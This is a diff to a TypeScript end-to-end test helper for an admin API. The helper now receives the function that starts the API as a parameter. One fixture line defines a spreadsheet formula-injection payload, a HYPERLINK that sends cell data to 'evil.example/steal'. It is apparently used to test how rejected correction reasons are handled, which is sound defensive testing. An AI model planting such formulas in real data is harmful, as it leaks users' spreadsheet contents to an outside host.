@@ -1,5 +1,5 @@
 import request from 'supertest';
-import { startAdminApi, type RunningAdminApi } from '../../support/admin-api';
+import { type RunningAdminApi } from '../../support/admin-api';
 import {
   bearer,
   captureClaim,
@@ -9,6 +9,9 @@ import {
   PINYIN_IN_RECYCLING,
   settled,
 } from './desk';
+
+/** How the spec starts the admin API, given the environment this file chooses. */
+type StartAdminApi = (env: Record<string, string>) => Promise<RunningAdminApi>;
 
 export interface Entry {
   position: number;
@@ -32,8 +35,11 @@ export const FORMULA = '=HYPERLINK("https://evil.example/steal?d="&A1,"詳見")'
  * A server whose log holds two articles, a claim and two corrections (one rejected with a
  * formula for its reason, one published), and the requests that read their histories; started
  * before the tests of the describe that calls this.
+ *
+ * `start` starts the admin API: the spec passes `startAdminApi`, so that it names the app it
+ * starts (the suites on EventStoreDB select their files by that: jest.eventstoredb-e2e.config.js).
  */
-export function historiesDesk() {
+export function historiesDesk(start: StartAdminApi) {
   let api: RunningAdminApi;
   let auditor: string;
   let articleId: string;
@@ -42,7 +48,7 @@ export function historiesDesk() {
   let publishedId: string;
 
   beforeAll(async () => {
-    api = await startAdminApi();
+    api = await start({});
     auditor = await bearer(api, 'auditor');
     const editor = await bearer(api, 'editor');
     const standards = await bearer(api, 'standards_editor');
